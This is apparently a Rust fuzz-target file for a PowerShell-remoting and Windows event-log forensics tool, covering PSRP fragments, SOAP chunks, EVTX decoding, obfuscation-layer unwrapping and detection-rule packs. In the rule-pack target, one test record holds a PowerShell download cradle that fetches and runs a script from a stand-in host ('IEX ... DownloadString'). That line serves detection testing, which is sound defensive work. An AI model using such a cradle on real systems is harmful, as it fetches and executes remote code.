//! What each fuzz target does with its bytes: reads them as the program would, asks for all that
//! can
//! be asked, and checks what must hold of any input.
//!
//! The project's own tests take this file in, too, and give each target the corpus that is kept.

use std::cell::RefCell;
use std::fs;
use std::path::PathBuf;

use psr_forensics::decode::{self, Decoder, RecordFilter};
use psr_forensics::detect::{self, Pack, RuleSet};
use psr_forensics::error::FaultKind;
use psr_forensics::input::InputKind;
use psr_forensics::input::{self, InputReader, Piece, PlaceReader, discover, piece_count};
use psr_forensics::layers::{UnwrapLimits, Unwrapper, find_layers};
use psr_forensics::model::index::InputIdx;
use psr_forensics::model::{Channel, Fields, RecordRef};
use psr_forensics::normalise::{Normaliser, wire};
use psr_forensics::psrp::{
    ChunkKey, ClixmlDocument, Conversation, Direction, Envelope, Exchange, Fragment, MessageHeader,
    SoapChunk, node_line, node_literal, unpack_xpress,
};
use psr_forensics::{Input, Record};

/// A fuzz target: takes any bytes, and panics if a property does not hold.
pub type Target = fn(&[u8]);

/// All fuzz targets and their names.
pub const TARGETS: [(&str, Target); 11] = [
    ("fragments", fragments),
    ("clixml", clixml),
    ("soap", soap),
    ("xpress", xpress),
    ("chunk", chunk),
    ("json", json),
    ("xml", xml),
    ("texts", texts),
    ("layers", layers),
    ("zip", zip),
    ("pack", pack),
];

/// A stream of PSRP fragments behind one byte, whose bits say which process each one is of.
pub fn fragments(data: &[u8]) {
    let Some((&lanes, stream)) = data.split_first() else { return };
    let mut exchange = Exchange::new();
    for (at, fragment) in Fragment::split(stream).0.into_iter().enumerate() {
        let to_server =
            MessageHeader::parse(&fragment.blob).is_ok_and(|h| h.direction == Direction::ToServer);
        let process = u32::from(lanes >> (at % 8) & 1);
        exchange.add_fragment("srv", process, to_server, fragment, at);
    }
    let conversation = exchange.finish();
    let length: usize = conversation.messages.iter().map(|message| message.length()).sum();
    assert!(length <= stream.len(), "messages are longer than their fragments");
    walk(&conversation);
}

/// One message's data.
pub fn clixml(data: &[u8]) {
    let Ok(document) = ClixmlDocument::parse(data) else { return };
    for node in document.roots() {
        let (line, literal) = (node_line(node), node_literal(node));
        // One byte may become a few, and names of types may be told again, but not without end.
        assert!(line.len() <= MOST_TEXT && literal.len() <= MOST_TEXT);
    }
}

/// A few times what `psrp` says a text may have: it bounds the text before the last value.
const MOST_TEXT: usize = 4 << 20;

/// SOAP documents, parted by NULs: each whole, and once more in chunks that come in disorder.
pub fn soap(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let (mut whole, mut chunked) = (Exchange::new(), Exchange::new());
    for (at, document) in text.split('\0').enumerate() {
        let _ = Envelope::parse(document).map(|envelope| envelope.operation().len());
        whole.add_document("srv", document, vec![at]);
        let middle = document.floor_char_boundary(document.len() / 2);
        let key = ChunkKey {
            host: "srv".into(),
            activity: Some(at.to_string()),
            process: Some(4),
            thread: None,
            event_id: 1044,
        };
        for (index, text) in [(2, &document[middle..]), (1, &document[..middle])] {
            chunked
                .add_chunk(SoapChunk { key: key.clone(), index, total: 2, text: text.into() }, at);
        }
    }
    let (whole, chunked) = (whole.finish(), chunked.finish());
    walk(&whole);
    let count = |read: &Conversation<usize>| {
        (read.messages.len(), read.shells.len(), read.gaps.len(), read.faults.len())
    };
    // Chunks of two documents that are the same one after the other cannot be told apart, empty
    // ones are none.
    let documents: Vec<&str> = text.split('\0').collect();
    let distinct = documents.len() == 1 && documents[0].len() > 2;
    assert!(!distinct || count(&whole) == count(&chunked), "chunks are read otherwise");
}

/// Reads everything that a conversation can report.
fn walk(conversation: &Conversation<usize>) {
    for pipeline in conversation.pipelines() {
        let _ = (pipeline.command_text(), pipeline.state());
        pipeline.output.iter().for_each(|item| assert!(item.line().len() <= MOST_TEXT));
    }
    for gap in &conversation.gaps {
        let _ = (gap.sentence(), conversation.direction(&gap.lane));
    }
    for command in conversation.shells.iter().flat_map(|shell| &shell.commands) {
        for name in command.streams.keys() {
            let _ = command.stream_text(name);
        }
    }
    let _ = conversation.pools();
}

/// A compressed stream.
pub fn xpress(data: &[u8]) {
    if let Ok(plain) = unpack_xpress(data) {
        // A block gives 64 KiB at most, and has a header of four bytes and one of data at least.
        assert!(plain.len() <= data.len().div_ceil(5) << 16);
    }
}

/// The offset of a chunk's first record.
const RECORDS: usize = 512;

/// The first bytes of an EVTX chunk, the rest of which is zeroes. With right checksums it goes
/// through plans, with a wrong one to the evtx crate: both must give the same records.
pub fn chunk(data: &[u8]) {
    if data.len() <= RECORDS || data.len() > input::CHUNK_SIZE as usize {
        return;
    }
    let mut bytes = data.to_vec();
    bytes.resize(input::CHUNK_SIZE as usize, 0);
    bytes[..8].copy_from_slice(b"ElfChnk\0");
    // A flag of the header says that checksums are not kept.
    bytes[120] &= !4;
    evtx_writer::seal(&mut bytes);

    let mut decoder = Decoder::default();
    let planned = read_chunk(&mut decoder, &bytes);
    let again = read_chunk(&mut decoder, &bytes);
    assert!(planned == again, "a decoder that knows the templates reads otherwise");
    let verdict = by_crate(&bytes, 124);
    // A name may stand anywhere, in the checksum too: then each wrong one gives another verdict.
    assert!(
        planned == verdict || verdict != by_crate(&bytes, 126),
        "plans and the evtx crate differ"
    );
}

/// What the evtx crate makes of a chunk: that of the same one with a wrong checksum, in this byte.
fn by_crate(bytes: &[u8], at: usize) -> ChunkRead {
    let mut damaged = bytes.to_vec();
    damaged[at] ^= 1;
    let (records, count, mut faults) = read_chunk(&mut Decoder::default(), &damaged);
    faults.retain(|(_, reason)| reason != "wrong checksum of the chunk header");
    (records, count, faults)
}

/// Records, their number, and their faults.
type ChunkRead = (Vec<Record>, u64, Vec<(FaultKind, String)>);

fn read_chunk(decoder: &mut Decoder, bytes: &[u8]) -> ChunkRead {
    let mut input = on_disk(b"ElfFile\0");
    input.kind = InputKind::Evtx;
    let length = bytes.len() as u64;
    let mut piece = Piece {
        start: input::FILE_HEADER,
        length,
        chunks: vec![bytes.to_vec()],
        ..Piece::default()
    };
    let mut records = Vec::new();
    let mut normaliser = Normaliser::default();
    let tally = decoder.decode_piece(&input, InputIdx::default(), &mut piece, &All, |record| {
        let _ = normaliser.event(record);
        records.push(record.clone());
    });
    assert!(piece.chunks[0].is_empty() || piece.chunks[0] == bytes, "the chunk was changed");
    let faults = tally.faults.into_iter().map(|fault| (fault.kind, fault.reason)).collect();
    (records, tally.records, faults)
}

/// A log of JSON.
pub fn json(data: &[u8]) {
    text_log(data, InputKind::Json);
}

/// A log of XML.
pub fn xml(data: &[u8]) {
    text_log(data, InputKind::Xml);
}

fn text_log(data: &[u8], kind: InputKind) {
    let mut input = on_disk(data);
    // What does not begin as a log is read as one, too: the parser must bear it.
    input.kind = kind;
    input.size = data.len() as u64;
    let records = read_log(&input);
    // A place of evidence leads to its record.
    for record in records.iter().take(4) {
        let mut piece = Piece::default();
        let place = decode::reread_offset(&input, record.source.offset);
        PlaceReader::default()
            .read(InputIdx::default(), &input, place, &mut piece)
            .expect("the file is there");
        let mut found = Vec::new();
        Decoder::default().decode_piece(&input, InputIdx::default(), &mut piece, &All, |record| {
            found.push(record.clone())
        });
        found.retain(|other| other.source == record.source);
        assert!(found.contains(record), "a record is not found again at its place");
    }
}

/// Reads a log to its end.
fn read_log(input: &Input) -> Vec<Record> {
    let (mut reader, mut piece) = (InputReader::new(input), Piece::default());
    let (mut decoder, mut normaliser) = (Decoder::default(), Normaliser::default());
    let mut records = Vec::new();
    for _ in 0..piece_count(input) {
        let _ = reader.next(&mut piece);
        decoder.decode_piece(input, InputIdx::default(), &mut piece, &All, |record| {
            let _ = normaliser.event(record);
            records.push(record.clone());
        });
    }
    records
}

/// A record by its fields: the first byte picks one of [`FORMS`], the rest are its values, parted
/// by
/// NULs; one that is left over is a field of its own.
pub fn texts(data: &[u8]) {
    let Some((&form, values)) = data.split_first() else { return };
    let (channel, event_id, names) = FORMS[usize::from(form) % FORMS.len()];
    let text = String::from_utf8_lossy(values);
    let mut fields = Fields::default();
    let names = names.iter().copied().chain(std::iter::repeat("Data"));
    names.zip(text.split('\0')).for_each(|(name, value)| fields.push(name, value));
    let record = Record {
        channel: channel.into(),
        known_channel: Channel::of(channel, ""),
        computer: "HOST".into(),
        event_id,
        data: fields,
        ..Record::default()
    };
    let event = Normaliser::default().event(&record);
    assert!(format!("{event:?}").len() <= 64 * data.len() + 4096, "an event outgrows its record");
    if let Some(wire) = wire(&record) {
        let mut exchange = Exchange::new();
        wire.add_to(&mut exchange, 0);
        walk(&exchange.finish());
    }
}

/// A channel, an event id and the names of its fields.
type Form = (&'static str, u32, &'static [&'static str]);

/// Forms of records whose fields are texts to be read.
pub const FORMS: [Form; 22] = [
    ("Microsoft-Windows-PowerShell/Operational", 4103, &["ContextInfo", "UserData", "Payload"]),
    ("Microsoft-Windows-PowerShell/Operational", 4100, &["ContextInfo", "UserData", "Payload"]),
    ("PowerShellCore/Operational", 7937, &["ContextInfo", "UserData", "Payload"]),
    (
        "Microsoft-Windows-PowerShell/Operational",
        4104,
        &["MessageNumber", "MessageTotal", "ScriptBlockText", "ScriptBlockId", "Path"],
    ),
    ("Microsoft-Windows-PowerShell/Operational", 53504, &["param1", "param2"]),
    ("Windows PowerShell", 800, &["Data", "Data", "Data"]),
    ("Windows PowerShell", 400, &["Data", "Data", "Data"]),
    ("Windows PowerShell", 600, &["Data", "Data", "Data"]),
    ("Microsoft-Windows-WinRM/Operational", 6, &["connection"]),
    ("Microsoft-Windows-WinRM/Operational", 91, &["resourceUri", "shellId"]),
    ("Microsoft-Windows-WinRM/Operational", 91, &["ErrorCode", "DataItemName", "EventPayload"]),
    ("Microsoft-Windows-WinRM/Operational", 142, &["operationName", "errorCode"]),
    ("Microsoft-Windows-WinRM/Operational", 169, &["username", "authenticationMechanism"]),
    ("Microsoft-Windows-WinRM/Analytic", 1044, &["SoapDocument", "index", "totalChunks"]),
    (
        "Microsoft-Windows-PowerShell/Analytic",
        32867,
        &["FragmentPayload", "ObjectId", "FragmentId", "sFlag", "eFlag", "FragmentLength"],
    ),
    ("Microsoft-Windows-PowerShell/Analytic", 32850, &["param1", "param2", "param3"]),
    (
        "Security",
        4624,
        &["TargetUserName", "TargetDomainName", "TargetUserSid", "TargetLogonId", "IpAddress"],
    ),
    ("Security", 4688, &["NewProcessName", "NewProcessId", "ProcessId", "CommandLine"]),
    ("Security", 4698, &["TaskName", "TaskContent", "SubjectUserName"]),
    ("Microsoft-Windows-Sysmon/Operational", 1, &["Image", "ProcessId", "CommandLine", "User"]),
    ("System", 7045, &["ServiceName", "ImagePath", "AccountName"]),
    ("OpenSSH/Operational", 4, &["process", "payload"]),
];

/// A text that may hold obfuscated layers.
pub fn layers(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    let limits = UnwrapLimits::default();
    let found = find_layers(&text, &limits);
    let size: usize = found.layers.iter().map(|layer| layer.text.len()).sum();
    assert!(found.layers.len() <= limits.layers && size <= limits.bytes);
    for (index, layer) in found.layers.iter().enumerate() {
        assert!(layer.parent.is_none_or(|parent| parent < index), "a layer before its parent");
        assert!(found.depth(Some(index)) <= limits.depth);
    }
    let mut unwrapper = Unwrapper::default();
    assert!(*unwrapper.find_layers(&text) == found && *unwrapper.find_layers(&text) == found);
}

/// An archive.
pub fn zip(data: &[u8]) {
    let mut input = on_disk(data);
    if input.kind != InputKind::Zip {
        return;
    }
    input.size = data.len() as u64;
    let folder = std::env::temp_dir();
    let inputs = input::unpack(vec![input], &folder, &psr_forensics::limits::Limits::default())
        .expect("the scratch folder takes it");
    for input in inputs.iter().filter(|input| input.kind.is_log()) {
        read_log(input);
    }
}

/// A file of rules. The rules are loaded, checked and applied to a record.
pub fn pack(data: &[u8]) {
    let path = scratch();
    fs::write(&path, data).expect("the scratch folder takes it");
    let Ok(rules) = Pack::read(&path).and_then(|pack| RuleSet::load(vec![pack])) else { return };
    let _ = detect::lint(&rules);
    let mut fields = Fields::default();
    fields.push("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x/y')");
    let record = Record {
        channel: "Microsoft-Windows-PowerShell/Operational".into(),
        known_channel: Channel::PowerShell,
        event_id: 4104,
        data: fields,
        ..Record::default()
    };
    let _ = rules.on_record(&record);
}

/// Wants every record.
struct All;

impl RecordFilter for All {
    fn wants(&self, _: RecordRef, _: Channel, _: &str, _: u32) -> bool {
        true
    }
}

/// The path of this thread's scratch file, whose folder goes with the thread.
fn scratch() -> PathBuf {
    thread_local! {
        static FOLDER: RefCell<Option<tempfile::TempDir>> = const { RefCell::new(None) };
    }
    FOLDER.with_borrow_mut(|folder| {
        let folder = folder.get_or_insert_with(|| tempfile::tempdir().expect("a scratch folder"));
        folder.path().join("input")
    })
}

/// Creates an input with these bytes, as if its path had been given.
fn on_disk(data: &[u8]) -> Input {
    let path = scratch();
    fs::write(&path, data).expect("the scratch folder takes it");
    discover(&[path]).expect("the file is there").remove(0)
}
